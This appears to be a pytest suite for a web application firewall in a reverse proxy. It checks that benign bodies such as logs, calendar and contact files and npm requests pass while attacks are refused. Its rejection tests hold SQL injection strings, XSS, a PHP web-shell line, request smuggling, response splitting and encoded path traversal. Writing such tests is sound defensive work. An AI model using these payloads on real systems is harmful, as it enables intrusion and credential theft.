ENVELOPE = (b'{"event_id":"9ec79c33ec9942ab8353589fcb2e04dc","sent_at":"2026-12-07T10:11:12.000Z"}\n'
            b'{"type":"event"}\n'
            b'{"exception":{"values":[{"type":"ReferenceError","value":"gtag is not defined"}]},'
            b'"level":"error","platform":"javascript"}\n')
BEACON = [("Content-Type", "text/plain;charset=UTF-8")]


def test_multi_document_text_body_is_read_line_by_line(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    assert send(port, "POST", "/api/42/envelope/", BEACON, ENVELOPE).status == 200, g.stderr_tail()
    # one document over several lines is still parsed whole
    assert send(port, "POST", "/ingest/raw", TEXT, b'{\n  "a": 1,\n  "b": [2, 3]\n}\n').status == 200
    hits = origin.stats.heads
    for body in (ENVELOPE + b'{"user":{"id":"1\' UNION SELECT username, password FROM users-- -"}}\n',
                 b'{"msg":"ok"}\n{"msg":"<script>alert(document.cookie)</script>"}\n',
                 b'{\n  "q": "1\' UNION SELECT password FROM users-- -"\n}\n'):
        assert send(port, "POST", "/api/42/envelope/", BEACON, body).status == 403, body
    # a line that is not JSON, or a first line with more after its value, fails the parser
    for body in (ENVELOPE + b'<?php system($_GET["c"]); ?>\n', b'{"a":1} x\n{"b":2}\n'):
        assert send(port, "POST", "/api/42/envelope/", BEACON, body).status in (400, 403), body
        assert "200002" in g.stderr_text().splitlines()[-1], g.stderr_tail()
    assert origin.stats.heads == hits


# D40 ("Ninth round"): 921110 and 921130 read a request or status line where
# it starts a line.  The D1-D39 build refuses the prose and log shapes.

PROTOCOL_PROSE = {
    "D40 a line ending in a method word and a word": (
        "POST", "/contact", FORM, form(message="Please delete it\nThanks, Ann")),
    "D40 an HTTP version in prose": (
        "POST", "/api/tickets", JSON, b'{"body": "We moved the origin from HTTP/1.1 to HTTP/2 last week."}'),
    "D40 log lines quoting a request line": (
        "POST", "/ingest/raw", TEXT,
        b'Dec  7 12:00:05 lb-1 haproxy[811]: 198.51.100.23:51522 "GET /products/blue-kettle HTTP/1.1"\n'
        b'Dec  7 12:00:06 lb-1 haproxy[811]: 198.51.100.24:51523 "POST /cart HTTP/1.1"\n'),
}


@pytest.mark.parametrize("shape", sorted(PROTOCOL_PROSE))
def test_round9_protocol_prose_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = PROTOCOL_PROSE[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_smuggling_and_splitting_at_a_line_start_are_refused(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    for target, rule in (("/redirect?next=%0d%0aGET%20/admin%20HTTP/1.1%0d%0aHost:%20internal", "90058"),
                         ("/fetch?u=x%0aGET%20/admin%0a", "90058"),
                         ("/go?next=x%0d%0aHTTP/1.1%20302%20Found", "90059"),
                         ("/preview?x=%3Chtml%3E%3Cbody%3Ehi", "90059")):
        assert send(port, "GET", target).status == 403, target
        assert blocked_by(g, rule), (rule, g.stderr_tail())
    # a request after a chunk terminator in a body no parser reads
    assert send(port, "POST", "/upload/chunk", [("Content-Type", "application/octet-stream")],
                b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n").status == 403
    assert blocked_by(g, "90058"), g.stderr_tail()
    assert untouched(origin)


def test_exclude_921110_removes_the_smuggling_stand_in(gatehouse, origin, port):
    # refused by 90058 alone (a body no ARGS rule reads)
    start(gatehouse, port, origin, waf="exclude 921110")
    assert send(port, "POST", "/upload/chunk", [("Content-Type", "application/octet-stream")],
                b"0\r\n\r\nGET /admin HTTP/1.1\r\nHost: localhost\r\n\r\n").status == 200


# D41-D44 (tests/waf/default-exclusions.md, "Tenth round"): mechanisms behind
# holdout12's false positives.  The D1-D40 build refuses each shape (920450
# on Content-Range, 920420 on text/calendar, text/vcard and a raw image POST,
# strict's 400 on an npm scoped name's encoded slash).

ICS = (b"BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Example//Cal//EN\r\nBEGIN:VEVENT\r\n"
       b"UID:4410@calendar.example.com\r\nDTSTART;TZID=Europe/London:20261211T100000\r\n"
       b"SUMMARY:Q1 planning - platform team\r\n"
       b"LOCATION:Room 3.14 / https://meet.example.com/abc-defg-hij\r\n"
       b"DESCRIPTION:Agenda:\\n1. Review Q4 incidents\\n2. Roadmap: SSO\\, audit logs\r\n"
       b"RRULE:FREQ=WEEKLY;BYDAY=TH;COUNT=6\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")
VCF = (b"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Raj Patel\r\nORG:Example Corp;Platform\r\n"
       b"EMAIL;TYPE=work:raj@example.com\r\nNOTE:Met at the Berlin meetup\\, prefers mornings.\r\n"
       b"END:VCARD\r\n")
LOG_CHUNK = (b"\x1b[0KRunning with gitlab-runner 16.6.0\x1b[0;m\n$ npm ci\n"
             b"added 812 packages in 14s\n$ npm test -- --ci\nTests: 41 passed, 41 total\n")

SHAPES10 = {
    "D41 job log chunk with Content-Range": (
        "PATCH", "/api/v4/jobs/771204/trace",
        [("Content-Type", "text/plain"), ("Content-Range", "0-%d" % (len(LOG_CHUNK) - 1))], LOG_CHUNK),
    "D41 resumable upload chunk": (
        "PUT", "/upload/resumable?upload_id=xa298sd",
        [("Content-Type", "application/octet-stream"), ("Content-Range", "bytes 0-4/10")], b"hello"),
    "D41 resumable upload status": (
        "PUT", "/upload/resumable?upload_id=xa298sd", [("Content-Range", "bytes */10")], b""),
    "D42 CalDAV PUT of an event": (
        "PUT", "/dav/calendars/anja/work/4410.ics", [("Content-Type", "text/calendar; charset=utf-8")], ICS),
    "D42 CardDAV PUT of a contact": (
        "PUT", "/dav/addressbooks/anja/main/raj.vcf", [("Content-Type", "text/vcard")], VCF),
    "D43 raw image POST": (
        "POST", "/api/docs/d_7712/images", [("Content-Type", "image/png")],
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR-small-diagram-bytes"),
    "D44 npm scoped package metadata": ("GET", "/@acme%2fdesign-tokens", [], b""),
    "D44 npm dist-tags": ("GET", "/-/package/@acme%2fui/dist-tags", [], b""),
    "D45 Prometheus instant query": (
        "GET", "/api/v1/query?query=histogram_quantile(0.99%2C%20sum%20by%20(le)%20"
        "(rate(request_duration_seconds_bucket%7Bservice%3D%22api%22%7D%5B5m%5D)))", [], b""),
    "D46 npm publish with a readme": (
        "PUT", "/@acme%2fdesign-tokens", JSON, json.dumps(
            {"name": "@acme/design-tokens", "versions": {"2.4.0": {
                "readme": "# @acme/design-tokens\n\n```sh\nnpm i @acme/design-tokens\n```\n"}}}).encode()),
}


@pytest.mark.parametrize("shape", sorted(SHAPES10))
def test_round10_shape_passes(gatehouse, origin, port, shape):
    g = start(gatehouse, port, origin)
    method, target, headers, body = SHAPES10[shape]
    assert send(port, method, target, headers, body).status == 200, g.stderr_tail()


def test_round10_neighbours_are_refused(gatehouse, origin, port):
    g = start(gatehouse, port, origin)
    octet = [("Content-Type", "application/octet-stream")]
    # Content-Range: a list, another character, on a GET (920450)
    for method, headers in (("PUT", octet + [("Content-Range", "bytes 0-1, 3-4/10")]),
                            ("PUT", octet + [("Content-Range", "bytes 0-4/10<x>")]),
                            ("GET", [("Content-Range", "bytes 0-4/10")])):
        assert send(port, method, "/upload/x", headers, b"hello" if method == "PUT" else b"").status == 403
    # code in a raw image body (90076), an SVG POSTed raw (920420)
    for ctype, body in (("image/png", b"\x89PNG\r\n\x1a\n<?php system($_GET['c']); ?>"),
                        ("image/gif", b"GIF89a<script>alert(1)</script>")):
        assert send(port, "POST", "/api/docs/d_1/images", [("Content-Type", ctype)], body).status == 403
        assert blocked_by(g, "90076"), g.stderr_tail()
    assert send(port, "POST", "/api/docs/d_1/images", [("Content-Type", "image/svg+xml")],
                b'<svg xmlns="http://www.w3.org/2000/svg"/>').status == 403
    # an attack in a calendar body is read; response splitting too (90063)
    bad = ICS.replace(b"SUMMARY:Q1 planning", b"SUMMARY:x' UNION SELECT password FROM users--")
    assert send(port, "PUT", "/dav/e.ics", [("Content-Type", "text/calendar")], bad).status == 403
    split = ICS.replace(b"RRULE:", b"Set-Cookie: sid=attacker\r\nRRULE:")
    assert send(port, "PUT", "/dav/e.ics", [("Content-Type", "text/calendar")], split).status == 403
    assert blocked_by(g, "90063"), g.stderr_tail()
    # a PHP call in a query parameter, after "$by" too (90047)
    for q in ("(system)('id')", "%24by%20(system)('id')"):
        assert send(port, "GET", "/api/v1/query?query=" + q).status == 403, q
    # SQL that closes a quote in a readme (90032)
    assert send(port, "PUT", "/@acme%2fpkg", JSON, json.dumps(
        {"readme": "x' UNION SELECT password FROM users WHERE '1'='1"}).encode()).status == 403
    assert untouched(origin)


@pytest.mark.parametrize("target", ["/admin%2fusers", "/@acme%2f..%2fadmin", "/@acme%2f%2e%2e",
                                    "/@acme%2f.hidden", "/@..%2fadmin", "/@acme%2fa%2fb",
                                    "/x;@acme%2fname", "/@acme%2fname;x", "/@acme%2f",
                                    "/api/v4/projects/group%2Fproject"])
def test_encoded_slash_outside_an_npm_scoped_name_is_refused(gatehouse, origin, port, target):
    # with `strict_encoded_slash reject`; the default admits them
    # (test_waf_strict_slash.py)
    g = start(gatehouse, port, origin, waf="strict_encoded_slash reject")
    assert send(port, "GET", target).status == 400, g.stderr_tail()
    assert "an encoded slash" in g.stderr_text()
    assert untouched(origin)


def test_defaults_off_refuses_round10_policy_shapes(gatehouse, origin, port):
    # D41-D43 are defaults; D44 is strict's and stays with strict on
    start(gatehouse, port, origin, waf="defaults off")
    for shape, (method, target, headers, body) in sorted(SHAPES10.items()):
        if not shape.startswith("D44"):
            assert send(port, method, target, headers, body).status == 403, shape
    assert untouched(origin)


# CalDAV and CardDAV's methods stay a policy (D1 keeps WebDAV out): a
# `rules` file listed before the CRS sets tx.allowed_methods, and D1, which
# fills only what is unset, leaves it (tests/waf/default-exclusions.md,
# "Tenth round").
CALDAV_REPORT = (b'<?xml version="1.0" encoding="utf-8"?>\n<C:calendar-query xmlns:D="DAV:" '
                 b'xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/></D:prop>'
                 b'<C:filter><C:comp-filter name="VCALENDAR"/></C:filter></C:calendar-query>')
XML = [("Content-Type", "application/xml; charset=utf-8"), ("Depth", "1")]


def test_webdav_methods_are_a_policy_set_before_the_crs(gatehouse, origin, port, tmp_path):
    start(gatehouse, port, origin, waf="defaults off")
    assert send(port, "REPORT", "/dav/calendars/anja/work/", XML, CALDAV_REPORT).status == 403
    policy = tmp_path / "waf-policy.conf"
    policy.write_text("SecAction \"id:1000,phase:1,pass,nolog,t:none,setvar:'tx.allowed_methods="
                      "GET HEAD POST OPTIONS PUT PATCH DELETE PROPFIND PROPPATCH REPORT MKCOL "
                      "MKCALENDAR COPY MOVE LOCK UNLOCK'\"\n")
    p2 = ghutil.free_port()
    gatehouse(ghutil.simple_http_config(p2, [origin.addr], frontend_extra="use_waf crs")
              + "waf crs {\n    rules %s\n    rules %s\n    prefilter off\n}\n" % (policy, CRS))
    assert send(p2, "REPORT", "/dav/calendars/anja/work/", XML, CALDAV_REPORT).status == 200
    assert send(p2, "PROPFIND", "/dav/calendars/anja/", XML,
                b'<?xml version="1.0"?><D:propfind xmlns:D="DAV:"><D:prop><D:resourcetype/>'
                b'</D:prop></D:propfind>').status == 200
    assert send(p2, "TRACE", "/").status in (403, 405)
